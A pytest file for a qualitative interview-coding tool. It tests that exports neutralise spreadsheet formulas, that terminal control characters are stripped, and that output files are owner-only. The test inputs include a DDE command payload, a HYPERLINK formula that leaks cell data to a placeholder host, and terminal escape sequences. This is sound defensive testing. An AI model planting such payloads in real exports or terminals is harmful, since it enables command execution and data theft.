"""Nothing leaked through a file or a terminal: formulas from user data stay text in CSV
and XLSX, control characters never reach a terminal, outputs are their owner's only.
Each attack is generated here and failed before its fix."""

from __future__ import annotations

import csv
import os
import stat
import zipfile

from qual_coder import services
from qual_coder.storage import open_project

FORMULA = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")"
DDE = "=cmd|' /C calc'!A0"


def test_formulas_from_quotes_and_code_names_are_text(project_path, tmp_path, run):
    transcript = tmp_path / "t.txt"
    transcript.write_text(f"Interviewer: Tell me more.\n\nP1: {DDE} is what she typed.\n\n"
                          f"P1: +44 is the code, and {FORMULA} too.\n")
    assert run("import", project_path, transcript).exit_code == 0
    with open_project(project_path) as p:
        services.add_code(p, "evil", FORMULA)
        text = p.conn.execute("SELECT text FROM transcripts").fetchone()[0]
        start = text.index(DDE)
        services.add_coding(p, 1, "evil", start, text.index("she typed.") + 10, coder="ana")
        start = text.index("+44")
        services.add_coding(p, 1, "evil", start, text.index(" too."), coder="ana")
    out = tmp_path / "q.csv"
    assert run("quotes", project_path, "--code", "evil", "-o", out).exit_code == 0
    cells = [c for row in csv.reader(out.open()) for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{DDE} is what she typed." in cells
    xlsx = tmp_path / "m.xlsx"
    assert run("matrix", project_path, "-o", xlsx).exit_code == 0
    with zipfile.ZipFile(xlsx) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/"))
    assert "<f>" not in sheets and "HYPERLINK" in sheets  # there, as text only
    matrix_csv = tmp_path / "m.csv"
    assert run("matrix", project_path, "-o", matrix_csv).exit_code == 0
    assert "'=HYPERLINK" in matrix_csv.read_text()


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m"


def test_control_characters_are_dropped_on_import_and_shown_escaped(project_path, tmp_path,
                                                                    run):
    transcript = tmp_path / "escapes.txt"
    transcript.write_text(f"Interviewer: Hello.\n\nP1: Before {ESCAPES} after.\n")
    result = run("import", project_path, transcript)
    assert result.exit_code == 0
    assert "control characters" in result.output
    shown = run("show", project_path, "1")
    assert "\x1b" not in shown.output and "\x07" not in shown.output
    assert "Before ]0;pwned" in shown.output and "after." in shown.output
    with open_project(project_path) as p:  # a control character that got in another way
        p.conn.execute("UPDATE transcripts SET text = replace(text, 'Hello', "
                       "'He' || char(27) || 'lo')")  # same length: turns stay put
    shown = run("show", project_path, "1")
    assert "\x1b" not in shown.output and "He␛lo." in shown.output


def test_exports_and_reports_are_their_owners_only(demo_path, tmp_path, run):
    outputs = {"q.md": ("quotes", demo_path, "--code", "networking"),
               "q.docx": ("quotes", demo_path, "--code", "networking"),
               "m.xlsx": ("matrix", demo_path), "m.csv": ("matrix", demo_path),
               "p.qdpx": ("export", demo_path), "r.html": ("report", demo_path)}
    for name, args in outputs.items():
        out = tmp_path / name
        extra = (out,) if args[0] == "export" else ("-o", out)
        result = run(*args, *extra)
        assert result.exit_code == 0, (name, result.output)
        assert stat.S_IMODE(os.stat(out).st_mode) == 0o600, name


async def test_the_workbench_never_sends_a_control_character(project_path, tmp_path, run):
    from qual_coder.tui.app import make_app

    transcript = tmp_path / "t.txt"
    transcript.write_text("Interviewer: Hello there.\n\nP1: Fine, thanks.\n")
    assert run("import", project_path, transcript).exit_code == 0
    with open_project(project_path) as p:  # as an older project or another tool left it
        p.conn.execute("UPDATE transcripts SET text = replace(text, 'there', "
                       "char(27) || ']0;x' || char(7))")
    app = make_app(project_path)
    try:
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            reader = app.screen.reader
            lines = "".join(seg.text for y in range(reader.size.height)
                            for seg in reader.render_line(y))
            assert "Hello ␛]0;x␇" in lines
            assert not any(ord(ch) < 32 or 0x7f <= ord(ch) <= 0x9f for ch in lines)
    finally:
        app.project.close()
